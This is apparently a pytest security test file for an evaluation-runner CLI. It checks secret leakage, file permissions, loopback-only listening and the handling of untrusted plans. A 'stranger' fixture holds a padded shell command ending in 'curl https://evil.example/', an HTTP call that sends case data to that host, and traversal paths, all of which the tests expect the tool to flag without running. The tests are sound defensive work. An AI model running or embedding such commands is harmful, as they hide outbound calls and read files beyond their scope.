"""What a live run lets others see, where it writes, what it listens on; and what a stranger's plan may do unasked."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from tests.support.product import Agent, Product
from tui_eval.errors import UsageError
from tui_eval.jobs import Job

SECRET = "kk-4711-made-up-secret"
PLAN = """
version: 1
name: watched
task_concurrency: 3
requests:
  - name: http
    dataset: {cases: [{id: a, q: x}, {id: b, q: y}]}
    solution:
      type: http
      url: ${AGENT}/json?ms=60000&key=${TUI_EVAL_TEST_KEY}
      headers: {authorization: "Bearer ${TUI_EVAL_TEST_KEY}"}
      body: {question: "{{ q }}"}
  - name: command
    dataset: {cases: [{id: a}]}
    solution: {type: command, argv: [sleep, "61.75"], env: {AGENT_PASSWORD: "${TUI_EVAL_TEST_KEY}"}}
    evaluators: [{id: python, function: "judge:say"}]
"""

JUDGE = "def say(**variables):\n    return True\n"


def process_list() -> str:
    return subprocess.run(["ps", "-eww", "-o", "pid,args"], capture_output=True, text=True, check=True).stdout


def family(pid: int) -> set[int]:
    """A process and all it has started."""
    listed = subprocess.run(["ps", "-eo", "pid=,ppid="], capture_output=True, text=True, check=True).stdout
    parents = {int(child): int(parent) for child, parent in (line.split() for line in listed.splitlines())}
    found = {pid}
    while grown := {child for child, parent in parents.items() if parent in found} - found:
        found |= grown
    return found


def listening(pids: set[int]) -> list[str]:
    """Local addresses (hexadecimal, as in /proc/net/tcp) of the sockets that some processes listen on."""
    inodes = set()
    for pid in pids:
        for descriptor in Path(f"/proc/{pid}/fd").iterdir():
            try:
                target = os.readlink(descriptor)
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    rows = [line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]]
    return [row[1] for row in rows if row[3] == "0A" and row[9] in inodes]


def test_no_secret_is_in_the_process_list_of_a_live_run_and_nothing_listens(product: Product, agent: Agent) -> None:
    (product.folder / "judge.py").write_text(JUDGE)
    plan = str(product.write_plan(PLAN))
    environment = {"AGENT": agent.url, "TUI_EVAL_TEST_KEY": SECRET}
    foreground = product.start("run", plan, "--run-id", "here", environment=environment)
    detached = product.run("run", plan, "--run-id", "there", "--detach", environment=environment)
    assert detached.returncode == 0, detached.stderr
    sql = "SELECT pid FROM runs WHERE (SELECT count(*) FROM activity WHERE run = runs.id) = 3"
    product.wait_for(f"SELECT 1 FROM (SELECT count(*) AS number FROM ({sql})) WHERE number = 2")
    pids = [pid for (pid,) in product.query("SELECT pid FROM runs")]
    listed = process_list()
    assert "sleep 61.75" in listed, "the children are among those listed"
    assert SECRET not in listed
    for pid in pids:
        assert listening(family(pid)) == []
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    foreground.communicate()
    for path in product.folder.rglob("*"):
        if path.is_file() and path.name != "plan.yaml":
            assert SECRET.encode() not in path.read_bytes(), path


def test_everything_that_is_kept_is_for_its_owner_only(product: Product, agent: Agent) -> None:
    (product.folder / "judge.py").write_text(JUDGE)
    before = os.umask(0)
    try:
        plan = str(product.write_plan(PLAN.replace("ms=60000", "ms=1").replace("61.75", "0.1")))
        environment = {"AGENT": agent.url, "TUI_EVAL_TEST_KEY": SECRET}
        results = product.folder / "results"
        arguments = ("run", plan, "--detach", "--results-dir", str(results))
        run_id = product.run(*arguments, environment=environment).stdout.strip()
        product.run("watch", run_id)
        product.run("backup", str(product.folder / "copy.db"))
        product.run("export", run_id, "--format", "json", "--output", str(product.folder / "export.json"))
    finally:
        os.umask(before)
    places = [*product.history.parent.rglob("*"), product.folder / "copy.db", product.folder / "export.json"]
    places += (results / run_id).rglob("*")
    assert len(places) >= 10
    modes = {place: place.stat().st_mode & 0o777 for place in places}
    assert {place: mode for place, mode in modes.items() if mode != (0o700 if place.is_dir() else 0o600)} == {}
    assert product.history.parent.stat().st_mode & 0o777 == 0o700


def test_the_demo_listens_on_loopback_only(product: Product) -> None:
    with subprocess.Popen(
        [sys.executable, "-m", "tui_eval", "demo", "--serve"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=product.environment(),
    ) as process:
        assert process.stdout is not None
        assert "127.0.0.1" in process.stdout.readline()
        found = listening(family(process.pid))
        process.terminate()
    assert len(found) == 1
    assert found[0].startswith("0100007F:"), "127.0.0.1 in /proc/net/tcp"


STRANGER = {
    "version": 1,
    "name": "stranger",
    "runtime": {"results_dir": "../outside"},
    "requests": [
        {
            "name": "one",
            "dataset": {"path": "../../secret.jsonl"},
            "solution": {
                "type": "command",
                "argv": ["sh", "-c", "touch MARK; " + "true; " * 40 + "curl https://evil.example/"],
            },
            "evaluators": [
                {"id": "command", "argv": ["sh", "-c", "touch MARK"]},
                {"id": "python", "function": "evil:judge"},
            ],
        },
        {
            "name": "two",
            "dataset": {"cases": [{"id": "a", "text": "x"}]},
            "solution": {"type": "http", "url": "https://evil.example/take", "body": {"t": "{{ text }}"}},
            "evaluators": [],
        },
    ],
}


def test_a_plan_from_a_stranger_executes_nothing_unasked_and_all_it_would_do_is_named(tmp_path: Path) -> None:
    (tmp_path / "secret.jsonl").write_text('{"id": "a"}\n')
    home = tmp_path / "plans" / "from-a-stranger"
    home.mkdir(parents=True)
    mark = tmp_path / "mark"
    (home / "evil.py").write_text(f"open({str(mark)!r}, 'w').close()\ndef judge(**variables): return True\n")
    plan = home / "plan.yaml"
    plan.write_text(yaml.safe_dump(STRANGER).replace("MARK", str(mark)))
    product = Product(tmp_path)
    looked = product.run("validate", str(plan))
    assert looked.returncode == 0, looked.stderr
    told = looked.stdout + looked.stderr
    for word in (
        "curl https://evil.example/",
        "evil:judge",
        "evil.example",
        f"touch {mark}",
        str(tmp_path / "secret.jsonl"),
        str(tmp_path / "plans" / "outside"),
    ):
        assert word in told, word
    assert "outside the plan's folder" in looked.stderr
    reach = product.json("validate", str(plan))["plans"][0]["reach"]
    assert reach["calls"] == ["evil.example"]
    assert len(reach["executes"]) == 3
    assert reach["reads"] == [str(tmp_path / "secret.jsonl")]
    for looking in (("preview", str(plan)), ("run", str(plan), "--dry-run")):
        product.run(*looking)
    assert not mark.exists()
    assert not (tmp_path / "plans" / "outside").exists()
    assert not product.history.exists()


@pytest.mark.parametrize("run_id", ["../x", "a/b", "..", ".hidden", "", "a b", "a\nb", "x" * 81, "last", "--yes"])
def test_a_run_id_cannot_lead_out_of_a_folder(run_id: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="run id"):
        Job("launch", history=str(tmp_path / "history.db"), run_id=run_id)
    import tui_eval

    if run_id:
        with pytest.raises(UsageError, match="run id"):
            tui_eval.launch({"version": 1, "name": "x", "requests": []}, run_id=run_id, history=tmp_path / "history.db")
    assert list(tmp_path.iterdir()) == []


def test_a_defect_in_a_runner_leaves_no_values_behind(product: Product) -> None:
    """Its message could quote a header: only where it happened is kept."""
    product.write_plan(PLAN)
    (product.folder / "sitecustomize.py").write_text(
        "import os, sys\n"
        "if os.environ.get('BREAK'):\n"
        "    import tui_eval.engine.execution as execution\n"
        "    async def broken(*values, **options):\n"
        "        raise ValueError('Bearer ' + os.environ['TUI_EVAL_TEST_KEY'])\n"
        "    execution.execute_job = broken\n"
    )
    environment = {
        "BREAK": "1",
        "AGENT": "http://127.0.0.1:9",
        "TUI_EVAL_TEST_KEY": SECRET,
        "TMPDIR": str(product.folder),
        "PYTHONPATH": f"{product.folder}{os.pathsep}{os.environ.get('PYTHONPATH', '')}",
    }
    ended = product.run("run", str(product.folder / "plan.yaml"), "--detach", environment=environment)
    assert ended.returncode != 0
    assert "defect of tui_eval (ValueError)" in ended.stderr
    time.sleep(0.2)
    kept = list(product.folder.rglob("*.log"))
    assert len(kept) == 2, "the runner's log and the report"
    for path in kept:
        assert SECRET not in path.read_text()
    assert SECRET not in ended.stdout + ended.stderr
